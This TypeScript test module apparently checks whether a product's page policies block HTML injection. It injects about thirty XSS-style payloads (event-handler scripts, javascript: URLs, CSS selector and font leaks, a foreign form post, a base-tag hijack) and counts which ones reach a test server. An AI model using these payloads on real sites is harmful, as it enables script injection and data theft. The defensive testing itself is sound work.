import { hitPath } from './foreign-server.ts'
import { bothWays, changesAnswers, pagePolicies, type Outcome, type World } from './both-ways.ts'
import type { Cookie } from './code-in-page.ts'

/** Markup by what it tries; `at` is an address of the attacker's, `mark` code that shows that it ran. */
type Markup = (at: (name: string) => string, mark: (name: string) => string) => Readonly<Record<string, string>>

const quoted = (code: string): string => code.replaceAll('"', '&quot;')

/** What somebody could get into a page who found a hole there: it asks for code of his, runs his own, or calls him. */
const kinds: Markup = (at, mark) => {
  const one = (name: string, make: (address: string, code: string) => string) => [name, make(at(name), mark(name))] as const
  return Object.fromEntries([
    one('inline script', (_address, code) => `<script>${code}</script>`),
    one('inline module', (_address, code) => `<script type="module">${code}</script>`),
    one('foreign script', (address) => `<script src="${address}"></script>`),
    one('foreign module', (address) => `<script type="module" src="${address}"></script>`),
    one('script of a data address', (_address, code) => `<script src="data:text/javascript,${encodeURIComponent(code)}"></script>`),
    one('picture that fails', (_address, code) => `<img src="/no/picture.png" onerror="${quoted(code)}">`),
    one('drawing that loads', (_address, code) => `<svg onload="${quoted(code)}"></svg>`),
    one('drawing that begins to move', (_address, code) => `<svg><animate attributeName="x" dur="1s" onbegin="${quoted(code)}"/></svg>`),
    one('details that open', (_address, code) => `<details open ontoggle="${quoted(code)}">x</details>`),
    one('film that fails', (_address, code) => `<video><source src="/no/film.mp4" onerror="${quoted(code)}"></video>`),
    one('frame with a document', (_address, code) => `<iframe srcdoc="${quoted(`<script>${code}</script>`)}"></iframe>`),
    one('frame of a script address', (_address, code) => `<iframe src="javascript:${quoted(code)}"></iframe>`),
    one('link of a script address', (_address, code) => `<a data-press href="javascript:${quoted(code)}">x</a>`),
    one('button whose form is a script address', (_address, code) => `<form><button data-press formaction="javascript:${quoted(code)}">x</button></form>`),
    one('foreign frame', (address) => `<iframe src="${address}"></iframe>`),
    one('foreign object', (address) => `<object data="${address}"></object>`),
    one('foreign embed', (address) => `<embed src="${address}">`),
    one('foreign style', (address) => `<link rel="stylesheet" href="${address}">`),
    one('style that imports', (address) => `<style>@import url("${address}");</style>`),
    one('style that tells what a field holds', (address) => `<input type="hidden" value="x"><i class="told">x</i><style>input[value="x"] ~ .told { display: block; background: url("${address}") }</style>`),
    one('foreign letters', (address) => `<style>@font-face { font-family: told; src: url("${address}") } .letters { font-family: told }</style><b class="letters">x</b>`),
    one('foreign picture', (address) => `<img src="${address}">`),
    one('foreign picture by choice', (address) => `<picture><source srcset="${address}"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></picture>`),
    one('foreign film', (address) => `<video preload="auto" src="${address}"></video>`),
    one('foreign sound', (address) => `<audio preload="auto" src="${address}"></audio>`),
    one('foreign script fetched ahead', (address) => `<link rel="preload" as="script" href="${address}">`),
    one('foreign module fetched ahead', (address) => `<link rel="modulepreload" href="${address}">`),
    one('foreign page fetched ahead', (address) => `<link rel="prefetch" href="${address}">`),
    one('call with a press', (address) => `<a data-press href="#told" ping="${address}">x</a>`),
  ])
}

const mark = (name: string): string => `(top.loot ??= []).push(${JSON.stringify(name)})`

/** Injects it into the page at an address of the product. */
export async function injectsMarkup(world: World, place: string, address: string, cookie?: Cookie): Promise<readonly Outcome[]> {
  const names = Object.keys(kinds(() => '', () => ''))
  const outcomes = await bothWays(world, names, async ({ run, isBare, context }) => {
    const opened = await context()
    const pieces = Object.values(kinds((name) => `${world.foreign.origin()}${hitPath(run, name)}`, mark)).join('\n')
    await changesAnswers(opened, new URL(address).origin, { markup: pieces, ...(isBare && { without: pagePolicies }) })
    if (cookie) await opened.addCookies([cookie])
    const page = await opened.newPage()
    await page.goto(address, { waitUntil: 'domcontentloaded' })
    await page.evaluate(() => { for (const element of document.querySelectorAll<HTMLElement>('[data-press]')) element.click() }).catch(() => undefined)
    return async () => [...world.foreign.hits(run), ...(await page.evaluate(() => (Reflect.get(globalThis, 'loot') as string[] | undefined) ?? []).catch(() => []))]
  })
  return outcomes.map((outcome) => ({ ...outcome, what: `${place}: ${outcome.what}` }))
}

/** Forms and a base address take the page away with them, so each has a page of its own. */
export async function injectsForms(world: World, place: string, address: string, cookie?: Cookie): Promise<readonly Outcome[]> {
  const pieces: Readonly<Record<string, (at: string) => string>> = {
    'form to a foreign site': (at) => `<form id="press" method="post" action="${at}"><input name="told" value="x"></form>`,
    'base address of a foreign site': (at) => `<base href="${at}/"><script src="${at.replace(/^https?:/, '')}"></script><form id="press" action="x"></form>`,
  }
  const outcomes: Outcome[] = []
  for (const [name, piece] of Object.entries(pieces)) {
    outcomes.push(...await bothWays(world, [name], async ({ run, isBare, context }) => {
      const opened = await context()
      await changesAnswers(opened, new URL(address).origin, { markup: piece(`${world.foreign.origin()}${hitPath(run, name)}`), ...(isBare && { without: pagePolicies }) })
      if (cookie) await opened.addCookies([cookie])
      const page = await opened.newPage()
      await page.goto(address, { waitUntil: 'domcontentloaded' })
      await page.evaluate(() => { document.querySelector<HTMLFormElement>('#press')?.submit() }).catch(() => undefined)
      return () => Promise.resolve(world.foreign.hits(run))
    }))
  }
  return outcomes.map((outcome) => ({ ...outcome, what: `${place}: ${outcome.what}` }))
}
